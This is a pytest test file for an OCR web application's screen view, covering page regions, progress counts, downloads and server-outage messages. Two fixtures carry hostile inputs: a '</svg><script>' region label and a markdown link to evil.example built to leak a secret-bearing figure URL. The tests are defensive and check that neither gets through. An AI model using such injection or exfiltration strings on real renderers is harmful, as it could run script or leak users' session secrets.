from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from gradio.utils import diff

from ocr.config.profiles import Model, read_options
from ocr.config.read_request import ReadRequest
from ocr.engines.outage import Outage
from ocr.engines.server_members import Member
from ocr.errors import NotADocument, PasswordRequired, Unreachable, UsageError
from ocr.events import PageDone, PageStarted, RegionFound, TextArrived
from ocr.grounding.page_verifier import grounded_result
from ocr.page_words import PageWord, WordSource
from ocr.pipeline.concurrency import AdaptiveLimiter
from ocr.types import Box, Document, PageId, PageImage, Region
from ocr.web.state import page_history, paragraphs
from ocr.web.state.page_state import StoredImage
from ocr.web.state.session import Session
from ocr.web.state.session_files import Download
from ocr.web.state.verified_text import VerifiedText
from ocr.web.views.document_text import prepare
from ocr.web.views.engine_status import EngineStatus
from ocr.web.views.screen import screen
from tests.web.conftest import LIGHTON, result
from tests.web.waiting import until

ENGINE = EngineStatus(LIGHTON, public=False)

PAGE = PageId(0, 2)


def test_screen_of_nothing_says_so(session: Session) -> None:
    """Without a document there is nothing to press and nothing to show."""
    shown = screen(session, ENGINE)
    assert not shown.control["ready"]
    assert (shown.documents["files"], shown.viewer["id"], shown.text["paragraphs"]) == ([], "", [])


def test_screen_is_plain_data(article: Session) -> None:
    """Every value is JSON as it stands, whatever a page holds."""
    article.pages[PAGE].apply(RegionFound(PAGE, Region("</svg><script>${1}", Box(0, 0, 9, 9))))
    article.shown = PAGE
    shown = screen(article, ENGINE)
    assert json.loads(json.dumps(shown)) == list(shown)


def test_screen_shows_the_chosen_page_alone(article: Session) -> None:
    """Text, regions and image are those of the page shown; its neighbours are one step away."""
    article.pages[PAGE].apply(TextArrived(PAGE, "raw", "Text"))
    article.pages[PAGE].apply(RegionFound(PAGE, Region("section", Box(10, 20, 30, 40))))
    article.pictures[PAGE] = StoredImage(Path("/served/a b.png"), PageImage(1190, 1540, b"", "image/png"))
    assert screen(article, ENGINE).text["paragraphs"] == []
    article.shown = PAGE
    shown = screen(article, ENGINE)
    assert [one["html"] for one in shown.text["paragraphs"]] == ["<p>Text"]
    assert shown.raw == {"text": "raw", "reading": False}
    (region,) = shown.viewer["regions"]
    assert (region["label"], region["kind"], region["box"]) == ("section", "heading", [10, 20, 30, 40])
    assert shown.viewer["image"] == "gradio_api/file=/served/a%20b.png"
    assert (shown.viewer["before"], shown.viewer["after"]) == ("0-1", "0-3")
    assert (shown.viewer["first"], shown.viewer["last"]) == ("0-1", "0-3")


def test_screen_regions_have_their_text_when_the_page_has_ended(article: Session) -> None:
    """While a page is read its text is sent once, as text; a picture has the address of its file, if there is one."""
    page = article.pages[PAGE]
    regions = (
        Region("text", Box(0, 0, 9, 9), "Words"),
        Region("Image", Box(0, 9, 9, 19)),
        Region("chart", Box(9, 9, 19, 19)),
    )
    page.apply(PageStarted(PAGE, PageImage(10, 14, b"", "image/png")))
    page.regions = list(regions)
    page.figures["figures/page-2-2.png"] = Path("/served/chart.png")
    article.shown = PAGE
    during = screen(article, ENGINE).viewer["regions"]
    assert [one["text"] for one in during] == [""] * 3
    page.apply(PageDone(PAGE, replace(result(), regions=regions)))
    after = screen(article, ENGINE).viewer["regions"]
    assert [one["text"] for one in after] == ["Words", "", ""]
    assert [one["figure"] for one in during] == ["", "", "gradio_api/file=/served/chart.png"]


def test_screen_keys_do_not_come_and_go(article: Session) -> None:
    """The browser changes a value in place, and does not notice where nothing but a key of it was added or removed."""
    keys: dict[str, set[frozenset[str]]] = {}

    def walk(value: object, path: str) -> None:
        if isinstance(value, dict):
            keys.setdefault(path, set()).add(frozenset(value))
            for key, one in value.items():
                walk(one, f"{path}.{key}")
        elif isinstance(value, list):
            for one in value:
                walk(one, f"{path}[]")

    page = article.pages[PAGE]
    article.shown = PAGE
    for event in (
        PageStarted(PAGE, PageImage(10, 14, b"", "image/png")),
        TextArrived(PAGE, "a word", "a word", tokens=60),
        PageDone(PAGE, replace(result(), regions=(Region("chart", Box(9, 9, 19, 19), "Words"),), attempts=2)),
    ):
        page.apply(event)
        shown = screen(article, ENGINE)
        for name in ("strip", "viewer", "text", "places"):
            walk(getattr(shown, name), name)
    assert {path: found for path, found in keys.items() if len(found) > 1} == {}
    assert {"strip.files[]", "viewer.regions[]"} <= keys.keys()


def test_screen_of_a_long_book_is_small(session: Session) -> None:
    """A thousand pages take about a kilobyte, and one that ends a few dozen bytes, as Gradio sends what has changed."""
    path = session.private / "0.pdf"
    session.add_pages(session.add("book.pdf", path), Document(path, "book.pdf", "application/pdf", 1000, "0" * 64))
    before = screen(session, ENGINE)
    session.apply(PageDone(PageId(0, 500), result()))
    after = screen(session, ENGINE)
    assert len(json.dumps([before.documents, before.strip])) < 1800
    assert len(json.dumps(diff([before.documents, before.strip], [after.documents, after.strip]))) < 210


def test_screen_figures_are_pictures_and_nothing_else(article: Session) -> None:
    """A figure's URL, which holds the session's secret, stands in its picture alone; one that is not there is named."""
    page = article.pages[PAGE]
    page.apply(PageStarted(PAGE, PageImage(10, 14, b"", "image/png")))
    carried = "[x](https://evil.example/?![lamp](figures/page-2-1.png))"
    page.apply(TextArrived(PAGE, "", f"![lamp](figures/page-2-1.png) ![oil](figures/page-2-2.png) {carried}"))
    page.figures["figures/page-2-1.png"] = Path("/served/secret.png")
    article.shown = PAGE
    (html,) = [one["html"] for one in screen(article, ENGINE).text["paragraphs"]]
    assert "[oil]" in html
    assert re.findall(r"<(\w+)[^>]*secret", html) == ["img"] * html.count("secret")


@pytest.mark.parametrize(("label", "kind"), [("Table+", "table"), ("figure_title", "heading"), ("stamp", "other")])
def test_screen_regions_have_a_colour_family(article: Session, label: str, kind: str) -> None:
    """Labels in any case, continued ones, and those nobody has heard of."""
    article.pages[PageId(0, 1)].regions = [Region(label, Box(0, 0, 9, 9))]
    assert screen(article, ENGINE).viewer["regions"][0]["kind"] == kind


def test_screen_bad_file_has_its_reason_beside_it(session: Session) -> None:
    """A file that cannot be opened says why and what next; only an encrypted one asks for a password."""
    bad, locked = session.add("bad.txt", Path("bad")), session.add("locked.pdf", Path("locked"))
    bad.problem = NotADocument("It is plain text.", "Drop a PDF.")
    locked.problem = PasswordRequired("It is encrypted.", "Type its password.")
    files = screen(session, ENGINE).documents["files"]
    assert [(file["problem"], file["next"], file["locked"]) for file in files] == [
        ("It is plain text.", "Drop a PDF.", False),
        ("It is encrypted.", "Type its password.", True),
    ]


def test_screen_server_down_comes_before_all_else(article: Session) -> None:
    """Without a server nothing can be read: that is what the screen says, with a way to try again."""
    article.problem = UsageError("bad range")
    article.server_problem = Unreachable("Nothing answers.", "Start it.")
    control = screen(article, ENGINE).control
    assert (control["problem"], control["next"], control["unreachable"], control["ready"]) == (
        "Nothing answers.", "Start it.", True, False,
    )  # fmt: skip


def test_screen_counts_what_the_run_has_done(article: Session) -> None:
    """Read, failed and stopped pages are told apart; the bar counts all that have ended."""
    run = article.begin(tuple(article.pages), ReadRequest("model"))
    article.apply(PageDone(PAGE, result()))
    assert screen(article, ENGINE).control["share"] == 33
    assert screen(article, ENGINE).control["progress"].startswith("1 of 3 pages read · ")
    article.end(run)
    assert "2 stopped" in screen(article, ENGINE).control["progress"]


def test_screen_counts_pages_as_the_strip_does(article: Session) -> None:
    """While the rest is read, and while a page is read again: pages that no run asked for do not count."""

    def counted() -> tuple[str, int, int]:
        shown = screen(article, ENGINE)
        return shown.control["progress"].partition(" · ")[0], shown.control["share"], shown.strip["files"][0]["read"]

    first = article.begin((PageId(0, 1),), ReadRequest("model"))
    assert counted() == ("0 of 1 page read", 0, 0)
    article.apply(PageDone(PageId(0, 1), result()))
    article.end(first)
    assert counted() == ("1 of 1 page read", 100, 1)
    rest = article.begin((PageId(0, 2), PageId(0, 3)), ReadRequest("model"))
    assert counted() == ("1 of 3 pages read", 33, 1)
    for number in (2, 3):
        article.apply(PageDone(PageId(0, number), result()))
    article.end(rest)
    assert counted() == ("3 of 3 pages read", 100, 3)
    article.begin((PageId(0, 1),), ReadRequest("model"), aside=True)
    assert counted() == ("2 of 3 pages read", 67, 2)


def test_screen_offers_downloads_by_their_url(article: Session) -> None:
    """A download's link is relative, so that it holds behind any proxy."""
    article.downloads = (Download("document.md", "md", Path("/served/document.md")),)
    assert screen(article, ENGINE).control["downloads"] == [
        {"name": "document.md", "format": "md", "url": "gradio_api/file=/served/document.md"}
    ]


@pytest.mark.anyio
async def test_screen_long_texts_are_prepared_beside_the_event_loop(
    article: Session, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A long page is rendered, and two readings of it are compared, in a thread; the screen then has both ready."""
    here: list[str] = []

    def watched(name: str, made: Callable[..., Any]) -> Callable[..., Any]:
        def called(*args: Any) -> Any:
            if threading.current_thread() is threading.main_thread():
                here.append(name)
            return made(*args)

        return called

    monkeypatch.setattr(paragraphs, "render", watched("render", paragraphs.render))
    monkeypatch.setattr(page_history, "differences", watched("differences", page_history.differences))
    for markdown in ("![" * 3_000, "long " * 1_000):
        run = article.begin((PAGE,), ReadRequest("model"))
        article.apply(PageDone(PAGE, replace(result(), markdown=markdown)))
        article.end(run)
    article.history.open = True
    await prepare(article)
    shown = screen(article, ENGINE)
    assert (shown.text["paragraphs"][0]["html"][:8], shown.compare["rows"] != "[]") == ("<p>long ", True)
    assert here == []


@pytest.mark.parametrize("public", [False, True])
@pytest.mark.anyio
async def test_screen_tells_that_the_server_is_away(article: Session, public: bool) -> None:
    """It says for which server pages wait, and for how long; strangers learn no address."""
    outage = Outage("gpu-box:8000", 60, tick_s=0.01)
    engine = EngineStatus(
        replace(LIGHTON, members=(Member("http://gpu-box:8000/v1", outage, AdaptiveLimiter()),)), public=public
    )
    told = asyncio.Event()

    async def answers() -> bool:
        return False

    outage.is_healthy, outage.tell = answers, lambda *said: told.set()
    assert await outage.confirm()
    await told.wait()
    run = article.begin((PAGE,), ReadRequest("model"))
    article.apply(PageStarted(PAGE, PageImage(1, 1, b"", "image/png")))
    before = screen(article, engine).page_status["text"]
    article.apply(TextArrived(PAGE, "Half", "Half"))
    shown = screen(article, engine)
    said = shown.control["starting"]
    assert "0 s" in said
    assert shown.text["paragraphs"]
    assert "is kept" in shown.page_status["text"]
    assert before not in ("", shown.page_status["text"])
    article.end(run)
    assert ("gpu-box" in said) is not public
    outage.is_needed = lambda: False
    await until(lambda: outage.seconds is None)
    assert screen(article, engine).control["starting"] == ""


@pytest.mark.parametrize("public", [False, True])
@pytest.mark.anyio
async def test_screen_tells_each_of_two_servers(article: Session, public: bool) -> None:
    """One that is away while the other reads: which, and that pages are read; what each serves, if they differ."""
    away, told = Outage("b:8000", 60, tick_s=0.01), asyncio.Event()

    async def answers() -> bool:
        return False

    away.is_healthy, away.tell, away.longest_wait_s = answers, lambda *said: told.set(), lambda: None
    members = (
        Member("http://a:8000/v1", Outage("a:8000", 60), AdaptiveLimiter(), {"ours": Model("ours")}),
        Member("http://b:8000/v1", away, AdaptiveLimiter(), {"other": Model("other")}),
    )
    engine = EngineStatus(replace(LIGHTON, members=members), public=public)
    assert screen(article, engine).control["starting"] == ""
    before = screen(article, engine).masthead["about"]
    assert all((word in before) is not public for word in ("a:8000", "ours", "b:8000", "other"))
    assert await away.confirm()
    await told.wait()
    shown = screen(article, engine)
    assert ("b:8000" in shown.control["starting"]) is not public
    assert "a:8000" not in shown.control["starting"]
    assert (shown.masthead["about"] != before) is not public
    await away.close()
    assert screen(article, engine).control["starting"] == ""


@pytest.mark.anyio
async def test_screen_tells_that_the_only_server_of_a_model_is_away(article: Session) -> None:
    """Another that is there has no such model: pages wait, and their clock stands still; those of its own do not."""
    away, told = Outage("a:8000", 60, tick_s=0.01), asyncio.Event()

    async def answers() -> bool:
        return False

    away.is_healthy, away.tell = answers, lambda *said: told.set()
    ours, other = Model("ours"), Model("other")
    members = (
        Member("http://a:8000/v1", away, AdaptiveLimiter(), {"ours": ours}),
        Member("http://b:8000/v1", Outage("b:8000", 60), AdaptiveLimiter(), {"other": other}),
    )
    engine, article.models = EngineStatus(replace(LIGHTON, members=members), public=False), (ours, other)
    begun = time.monotonic()
    assert await away.confirm()
    await told.wait()
    said = {}
    for model in article.models:
        run = article.begin((PAGE,), ReadRequest(model.id))
        article.apply(PageStarted(PAGE, PageImage(1, 1, b"", "image/png")))
        article.apply(TextArrived(PAGE, "Half", "Half"))
        shown = screen(article, engine)
        said[model.id] = (shown.control["starting"], shown.masthead["sign"], shown.page_status["text"])
        article.end(run)
    assert "0 s" in said["ours"][0]
    assert (said["ours"][1], said["other"][0], said["other"][1]) == ("away", "", "ready")
    assert "is kept" in said["ours"][2]
    assert "is kept" not in said["other"][2]
    paused = [engine.server.paused_s(read_options(model), begun) for model in article.models]
    assert paused[0] > 0
    assert paused[1] == 0
    await away.close()


def test_screen_places_of_words_come_with_the_check(article: Session) -> None:
    """The places to look at are in the order in which the page has them; without a comparison there is nothing."""
    article.shown = PAGE
    page = article.pages[PAGE]
    page.apply(PageDone(PAGE, replace(result(), markdown="It took 12.8 here", raw="x")))
    assert [screen(article, ENGINE).text[name] for name in ("words", "findings")] == ["", []]
    words = tuple(PageWord(text, (at, 10, at + 9, 20)) for at, text in enumerate(["It", "took", "12.5"]))
    assert page.result
    grounded = grounded_result(page.result, words, WordSource.TEXT_LAYER)
    assert grounded.check
    page.verified = VerifiedText(grounded.words, grounded.check)
    shown = screen(article, ENGINE).text
    assert [one["kind"] for one in shown["findings"]] == [place.kind for place in page.places] != []
    assert json.loads(shown["words"])["words"][0] == ["it", 0, 10, 9, 20]
    assert "words" not in screen(article, ENGINE).document_text


def test_screen_file_has_the_state_of_its_pages(article: Session) -> None:
    """How many are read until all are; a page that is being read, or failed, is seen at its file."""
    (before,) = screen(article, ENGINE).documents["files"]
    assert (before["state"], before["detail"]) == ("", "3 pages")
    pages = list(article.pages.values())
    for page in pages[:2]:
        page.apply(PageDone(page.page, result()))
    (some,) = screen(article, ENGINE).documents["files"]
    assert (some["state"], some["detail"]) == ("", "2 of 3 pages")
    pages[2].apply(PageStarted(pages[2].page, PageImage(10, 14, b"", "image/png")))
    assert screen(article, ENGINE).documents["files"][0]["state"] == "reading"
    pages[2].apply(PageDone(pages[2].page, result()))
    (all_read,) = screen(article, ENGINE).documents["files"]
    assert (all_read["state"], all_read["detail"]) == ("done", "3 pages")
    assert before.keys() == some.keys() == all_read.keys()
